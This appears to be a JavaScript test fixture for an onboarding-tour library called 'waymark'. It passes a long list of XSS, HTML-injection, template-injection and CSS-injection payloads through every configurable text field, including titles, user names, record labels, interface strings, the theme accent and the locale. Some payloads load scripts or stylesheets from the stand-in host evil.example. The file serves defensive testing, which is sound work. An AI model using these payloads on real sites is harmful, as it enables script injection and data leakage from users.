// Texts that try to be more than text, in every place an author or a host can write one: a journey for each payload, all
// payloads as names of records, and one as every word of the interface. `?accent=3` and `?locale=5` put one there.
(() => {
  const run = "window.hacked=1";
  const away = "//evil.example/x";
  const payloads = [
    `<img src=x onerror=${run}>`,
    `<img src="${away}">`,
    `<svg onload=${run}>`,
    `<svg><script>${run}</script></svg>`,
    `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
    `<svg><foreignObject><body onload=${run}></foreignObject></svg>`,
    `<script>${run}</script>`,
    `<script src=${away}></script>`,
    `<ScRiPt >${run}</sCrIpT>`,
    `</script><script>${run}</script>`,
    `<iframe src="javascript:${run}"></iframe>`,
    `<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>`,
    `<a href="javascript:${run}">press me</a>`,
    `<a href="&#106;avascript:${run}">press me</a>`,
    `<a href="java\tscript:${run}">press me</a>`,
    `javascript:${run}`,
    `data:text/html,<script>opener.hacked=1</script>`,
    `[press me](javascript:${run})`,
    `[press me](${away})`,
    `![picture](${away} "onerror=${run}")`,
    `<javascript:${run}>`,
    `**<img src=x onerror=${run}>**`,
    `_<svg onload=${run}>_`,
    `\`<script>${run}</script>\``,
    `**bold _<b onclick=${run}>both</b>_**`,
    `" onmouseover="${run}`,
    `' autofocus onfocus='${run}`,
    `" style="position:fixed;inset:0;background:url(${away})`,
    `--><script>${run}</script><!--`,
    `</style><script>${run}</script>`,
    `</style><style>@import "${away}";</style>`,
    `</title><script>${run}</script>`,
    `</textarea><img src=x onerror=${run}>`,
    `<template shadowrootmode="open"><script>${run}</script></template>`,
    `<template><img src=x onerror=${run}></template>`,
    `<math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
    `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
    `<details open ontoggle=${run}>`,
    `<video><source onerror=${run}></video>`,
    `<input autofocus onfocus=${run}>`,
    `<form action="javascript:${run}"><button>go</button></form>`,
    `<object data="javascript:${run}"></object><embed src="javascript:${run}">`,
    `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
    `<link rel=stylesheet href="${away}"><base href="${away}">`,
    `<custom-element onclick=${run} tabindex=0>x</custom-element>`,
    `&lt;img src=x onerror=${run}&gt;`,
    `&#60;script&#62;${run}&#60;/script&#62;`,
    `\u003cscript\u003e${run}\u003c/script\u003e`,
    `\${${run}}`,
    `{{constructor.constructor('${run}')()}}`,
    `{n}{total}{step}{constructor}{__proto__}`,
    `#{${run}} <%= ${run} %> \${7*7}`,
    `$& $1 $\` $' $<n>`,
    `\u202e\u2066onerror=${run}\u2069`,
    `\u0000<img src=x onerror=${run}>`,
    `${"<b>".repeat(200)}deep`,
    `${"x".repeat(5000)}<img src=x onerror=${run}>`,
  ];
  const accents = [
    `red;background:url(${away})`,
    `url(${away})`,
    `red}*{background:url(${away})}`,
    `</style><script>${run}</script>`,
    `var(--x, url(${away}))`,
    `image-set(url(${away}) 1x)`,
    `expression(${run})`,
    "color-mix(in srgb, red",
    "transparent",
    "#12694f/**/;--waymark-ink:red",
    "inherit; display: none",
    "calc(1px)",
    "var(--brand)",
    "var(--unheard)",
  ];
  const journeyOf = (payload, at) => ({
    format: "waymark.journey/1",
    id: `text-${at}`,
    title: payload,
    destination: payload,
    brief: { purpose: payload, benefit: payload, expectation: payload },
    steps: [
      {
        id: "one",
        title: payload,
        heading: payload,
        why: payload,
        minutes: 2,
        do: { open: payload, target: { testId: "target" }, say: payload, label: payload },
        done: { event: `one-${at}` },
        guide: {
          full: {
            tour: [
              { target: { testId: "target" }, say: payload },
              { target: { testId: "target" }, say: `again ${payload}` },
            ],
          },
        },
      },
      { id: "two", title: payload, why: payload, done: { event: `two-${at}` } },
    ],
  });
  const records = {
    format: "waymark.journey/1",
    id: "records",
    title: "All records",
    per: { subject: "order", page: "/orders/:id" },
    steps: [{ id: "one", title: "One", done: { event: "one" } }],
  };
  const asked = new URLSearchParams(location.search);
  const number = (name) => (asked.has(name) ? Number(asked.get(name)) : null);
  const word = number("texts");
  const options = {
    journeys: [records, ...payloads.map(journeyOf)],
    user: { id: "u-1", name: payloads[0], roles: [payloads[1]], traits: { plan: payloads[2] } },
    subjects: {
      // Lists begin with a few: `?from=5` begins with others.
      order: (asked.has("from") ? payloads.slice(number("from")).slice(0, 5) : payloads).map((label, at) => ({
        id: `${at}`,
        label,
        due: label,
      })),
      [payloads[0]]: [{ id: payloads[1], label: payloads[2] }],
    },
    // Every word of the interface at once, whatever its key.
    texts:
      word === null ? {} : new Proxy({}, { get: (_, key) => (typeof key === "string" ? payloads[word] : undefined) }),
    theme: number("accent") === null ? {} : { accent: accents[number("accent")] },
    locale: number("locale") === null ? "en" : payloads[number("locale")],
  };
  Object.assign(window, { payloads, accents });
  window.waymark = [["configure", options]];
})();
